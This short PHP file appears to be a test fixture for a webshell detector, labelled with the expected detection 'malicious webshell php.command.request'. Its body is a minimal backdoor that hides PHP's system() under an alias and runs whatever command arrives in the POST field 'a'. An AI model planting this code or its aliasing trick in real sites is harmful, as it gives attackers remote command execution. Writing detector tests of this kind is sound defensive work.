<?php return; // want: malicious webshell php.command.request
/* PHP's own function under another name, which no word here is in call position by. */
use function strlen as long, \system as tidy;
if (long($_POST['a'])) {
	tidy($_POST['a']);
}
